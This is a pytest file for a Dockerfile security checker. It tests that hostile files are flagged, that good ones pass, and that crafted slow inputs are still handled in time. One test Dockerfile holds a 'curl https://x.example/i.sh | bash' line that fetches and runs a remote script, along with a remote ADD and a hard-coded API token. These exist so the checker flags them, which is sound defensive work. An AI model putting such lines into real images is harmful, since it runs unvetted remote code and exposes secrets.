"""Hostile Dockerfiles are denied by the rule that is meant, and good ones of every ecosystem pass."""

from __future__ import annotations

import sys
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot import findings
from bot.types import File, Files, Finding, Severity
from tests.bot.findings.dockerfiles import GOOD, GOOD_ONES, HOSTILE
from tests.bot.findings.given import CATALOGUE, FILES


def check(text: str, path: str = "Dockerfile") -> tuple[Finding, ...]:
    return findings.check(Files(files=(File(path=path, text=text),)), CATALOGUE, FILES.__contains__)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_dockerfile_is_denied(name: str) -> None:
    rule, text = HOSTILE[name]

    found = check(text)

    assert rule in {finding.rule for finding in found if finding.severity is Severity.ERROR}


@pytest.mark.parametrize("name", GOOD_ONES)
def test_a_good_dockerfile_passes(name: str) -> None:
    assert check(GOOD_ONES[name]) == ()


@pytest.mark.parametrize("name", GOOD_ONES)
def test_a_good_dockerfile_of_a_person_is_free_of_errors(name: str) -> None:
    found = findings.review(GOOD_ONES[name], "Dockerfile", CATALOGUE)

    assert [finding for finding in found if finding.severity is Severity.ERROR] == []


def test_every_rule_denies_some_hostile_file() -> None:
    denied = {rule for rule, _ in HOSTILE.values()}

    lazy = {rule.NAME for rule in findings.RULES} - denied

    assert lazy == {"anonymous-volume"}  # untidy, not hostile


def test_the_same_holds_in_the_folder_of_a_service() -> None:
    assert check(GOOD, "services/web/Dockerfile") == ()
    assert {one.path for one in check("FROM evil\n", "services/web/Dockerfile")} == {"services/web/Dockerfile"}


def test_files_besides_a_dockerfile_are_judged_by_their_path() -> None:
    beside = (File(path=".dockerignore", text="FROM evil"), File(path=".github/workflows/other.yml", text=""))

    found = findings.check(Files(files=beside), CATALOGUE, FILES.__contains__)

    assert [(one.rule, one.path) for one in found] == [("unexpected-path", ".github/workflows/other.yml")]


def test_scripts_are_looked_for_where_the_files_come_from() -> None:
    base = "FROM python:3.14-slim-trixie\nWORKDIR /app\n{}\nRUN SECRET_KEY=build python manage.py check\nUSER 1\n"
    known = {"web/manage.py"}.__contains__

    def denied(copy: str, path: str = "Dockerfile") -> list[str]:
        files = Files(files=(File(path=path, text=base.format(copy)),))
        return [finding.rule for finding in findings.check(files, CATALOGUE, known)]

    assert denied("COPY web/ ./") == []
    assert denied("COPY web/manage.py ./") == []
    assert denied("COPY . ./", "web/Dockerfile") == []
    assert denied("COPY . ./") == ["unknown-command"]
    assert denied("COPY --from=busybox:1.37.0-musl /bin/busybox /busybox") == ["unknown-command"]


def test_one_file_is_checked_in_five_milliseconds() -> None:
    check(GOOD)
    spent = []
    for _ in range(20):
        started = time.process_time()
        check(GOOD_ONES["django"])
        spent.append(time.process_time() - started)

    assert min(spent) < (0.005 if sys.gettrace() is None else 0.050)  # a tracer, such as coverage's, slows it down


@pytest.mark.parametrize(
    "text",
    [
        "RUN " + "curl " * 4_000,
        "RUN " + "sh " * 8_000 + "curl",
        "RUN pip " + "pip " * 5_000,
        "# a =" + " " * 60_000 + "b",
        "ENV A=" + "://a:" * 4_000,
        "RUN x " + "a= " * 8_000,
        "RUN x " + "a=x:" * 24_000,
        "RUN x " + "'' " * 8_000,
        "CMD [" + "[" * 30_000,
    ],
)
def test_a_file_that_is_made_to_be_slow_is_judged_in_seconds(text: str) -> None:
    started = time.process_time()

    findings.review(f"FROM python:3.14-slim-trixie\n{text}\n", "Dockerfile", CATALOGUE)
    check(f"FROM python:3.14-slim-trixie\n{text}\n")

    assert time.process_time() - started < 3


TEXTS = [*GOOD_ONES.values(), *(text for _, text in HOSTILE.values() if len(text) < 5_000)]
LINES = sorted({line for text in TEXTS for line in text.split("\n")})


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(LINES), st.text(max_size=30)), max_size=12).map("\n".join))
def test_any_text_gets_an_answer(text: str) -> None:
    theirs, ours = findings.review(text, "Dockerfile", CATALOGUE), check(text)

    assert ours or not [one for one in theirs if one.severity is Severity.ERROR]


def test_what_a_person_wrote_is_judged_by_what_is_dangerous() -> None:
    text = (
        "FROM node\nENV API_TOKEN=abc\nWORKDIR /srv\nRUN set -eux; npm i\nRUN cd /srv; npm t\n"
        "RUN curl https://x.example/i.sh | bash\nADD https://x.example/y /z\nLABEL a=b\nCMD npm start\n"
    )

    found = findings.review(text, "Dockerfile", CATALOGUE)

    assert [(one.severity.value, one.rule, one.line) for one in found] == [
        ("error", "root-user", 1),
        ("error", "latest-tag", 1),
        ("error", "secret-in-image", 2),
        ("error", "piped-script", 6),
        ("error", "add-instruction", 7),
        ("warning", "shell-form-command", 9),
        ("info", "foreign-image", 1),
        ("info", "unknown-command", 4),
    ]
    assert all(one.message and one.instead for one in found)


def test_what_does_not_parse_is_an_error_with_its_line() -> None:
    found = findings.review("FROM python:3.14-slim-trixie\nENV A\n", "Dockerfile", CATALOGUE)

    assert [(one.rule, one.severity) for one in found] == [("unparsable-dockerfile", Severity.ERROR)]
